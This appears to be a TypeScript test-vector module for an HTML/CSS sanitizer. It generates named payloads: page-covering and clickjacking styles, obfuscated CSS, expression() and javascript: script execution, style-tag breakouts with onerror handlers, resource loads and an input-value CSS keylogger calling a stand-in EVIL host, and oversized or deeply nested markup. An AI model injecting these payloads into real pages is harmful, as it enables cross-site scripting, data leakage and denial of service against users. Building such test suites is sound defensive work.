import { EVIL, type Vector } from './vector.ts'

/** What would cover, hide or widen the page, call home, or run in a browser of some age. */
const DECLARATIONS: Readonly<Record<string, string>> = {
  'cover, fixed': 'position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:red',
  'cover, absolute': 'position:absolute;top:0;left:0;width:9999px;height:9999px;z-index:99999',
  'cover, sticky': 'position:sticky;top:0;height:100vh',
  'cover by margin': 'margin:-9999px;padding:9999px;background:red',
  'cover by transform': 'transform:scale(1000) translateX(-50%)',
  'cover by outline and shadow': 'outline:9999px solid red;box-shadow:0 0 0 9999px red',
  'cover by float and size': 'float:left;width:99999px;height:99999px;min-width:99999px',
  'cover by text': 'font-size:9999px;line-height:9999px;letter-spacing:999px;text-indent:-9999px',
  'cover by anchor': 'position:fixed;position-anchor:--x;inset-area:all',
  'link that cannot be seen': 'opacity:0;position:fixed;inset:0;cursor:pointer',
  'escaped words': 'po\\73ition:f\\69xed;\\69nset:0',
  'comment in words': 'pos/**/ition:fix/**/ed',
  'words in other letters': 'ｐｏｓｉｔｉｏｎ:fixed',
  important: 'position:fixed!important;inset:0!important',
  'background that calls': `background:url(${EVIL}/b)`,
  'image set that calls': `background-image:image-set("${EVIL}/s" 1x);list-style:url(${EVIL}/l)`,
  'mask, filter and cursor that call': `mask:url(${EVIL}/m);filter:url(${EVIL}/f#x);cursor:url(${EVIL}/c),auto`,
  'content that calls': `content:url(${EVIL}/c);border-image:url(${EVIL}/i) 1`,
  'variable that calls': `--x:url(${EVIL}/v);background:var(--x)`,
  expression: 'width:expression(pwned());xss:e\\78pression(pwned())',
  'expression with comments': 'xss:expr/*x*/ession(pwned())',
  behaviour: `behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml#x)`,
  'link of old': "-o-link:'javascript:pwned()';-o-link-source:current",
  'program in an address': 'background:url(javascript:pwned());background:url("javascript:pwned()")',
  animation: 'animation:x 1ms infinite;transition:all 1ms',
  'broken out of': '"><script>pwned()</script>',
  'broken out of with a brace': 'color:red}*{display:none}p{color:red',
}

const SHEETS: Readonly<Record<string, string>> = {
  'hides the page': '*{display:none!important}',
  'covers the page': 'body::after{content:"x";position:fixed;inset:0;background:red}',
  'imports a sheet': `@import "${EVIL}/x.css";@import url(${EVIL}/y.css) screen;`,
  'font that calls': `@font-face{font-family:x;src:url(${EVIL}/font)}*{font-family:x}`,
  'guesses what is typed': `input[value^=a]{background:url(${EVIL}/a)}`,
  'changes the language': '@charset "utf-7";@namespace url(http://x);@media all{*{color:red}}',
  'leaves too early': '</style><img src=x onerror=pwned()>',
  'leaves in a comment': '/*</style><img src=x onerror=pwned()>*/',
  'leaves in a text': 'a{content:"</style><script>pwned()</script>"}',
  'opens a comment of HTML': '<!--</style><img src=x onerror=pwned()>-->',
  'shows what is hidden': '*{visibility:visible!important;position:fixed!important;inset:0!important}',
}

const SIZES: Readonly<Record<string, string>> = {
  'huge picture': `<img src="${EVIL}/huge.png" width="1000000" height="1000000" style="width:99999px" alt="x">`,
  'many pictures': `<img src="${EVIL}/many.png" alt="x">`.repeat(300),
  'wide table': `<table width="99999" cellpadding="9999" border="999"><tr>${'<td colspan="9999" width="9999">x</td>'.repeat(40)}</tr></table>`,
  'tall table': `<table><tr>${'<td rowspan="65534">x</td>'.repeat(20)}</tr></table>`,
  'tables in tables': `${'<table><tr><td>'.repeat(300)}x${'</td></tr></table>'.repeat(300)}`,
  'long line of code': `<pre>${'x'.repeat(30_000)}</pre>`,
  'long word': 'x'.repeat(30_000),
  'long word without room to break': '\u2060x'.repeat(8_000),
  'very deep': `${'<div><b><i>'.repeat(2_000)}deep${'</i></b></div>'.repeat(2_000)}`,
  'deep and never closed': '<b><div>'.repeat(1_500),
  'many elements': '<b>x</b>'.repeat(8_000),
  'many attributes': `<p ${Array.from({ length: 3_000 }, (_, i) => `a${i}=x`).join(' ')}>x</p>`,
  'long attribute': `<a href="${EVIL}/${'x'.repeat(50_000)}">x</a>`,
  'signs upon signs': `Z${'\u0300\u0321\u0489'.repeat(3_000)}`,
  'writing from the other side': `\u202e${'evil '.repeat(50)}\u2066\u2067\u202d`,
  'huge heading': '<h1>'.repeat(100),
  'list that counts far': '<ol start="2147483647" reversed><li value="-2147483648">x</li></ol>',
  'frame borders': '<hr width="99999" size="99999"><font size="+99">x</font><center><big><big>x</big></big></center>',
  ruler: '<marquee width="99999" scrollamount="9999">x</marquee><spacer type="block" width="99999" height="99999">',
}

export function styleVectors(): readonly Vector[] {
  const styled = Object.entries(DECLARATIONS).map(([name, css]) => ({
    name: `style: ${name}`,
    html: ['div', 'a href="http://evil.localhost/"', 'p', 'table', 'img src=x', 'svg', 'x']
      .map((tag) => `<${tag} style="${css.replaceAll('"', '&quot;')}">x</${tag.split(' ', 1)[0]}>`)
      .concat(`<p style='${css.replaceAll("'", '&#39;')}'>x</p>`, `<p style=${css.replaceAll(' ', '')}>x</p>`)
      .join('\n'),
  }))
  const sheets = Object.entries(SHEETS).map(([name, css]) => ({
    name: `sheet that ${name}`,
    html: `<style>${css}</style><style type="text/css" media="all">${css}</style><svg><style>${css}</style></svg><p>x</p>`,
  }))
  return [...styled, ...sheets, ...Object.entries(SIZES).map(([name, html]) => ({ name, html }))]
}
